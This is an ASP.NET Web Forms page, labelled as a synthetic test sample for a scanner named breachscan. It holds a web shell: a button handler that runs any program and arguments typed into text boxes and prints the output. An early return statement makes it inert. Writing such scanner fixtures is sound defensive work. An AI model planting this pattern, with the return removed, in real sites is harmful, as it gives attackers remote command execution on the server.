<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: Web Forms command page (process from text boxes, output shown). Inert: returns before anything runs. --%>
<script runat="server">
void Run_Click(object s, EventArgs e) {
    return;
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = exePath.Text;
    p.StartInfo.Arguments = argLine.Text;
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    result.Text = p.StandardOutput.ReadToEnd();
}
</script>
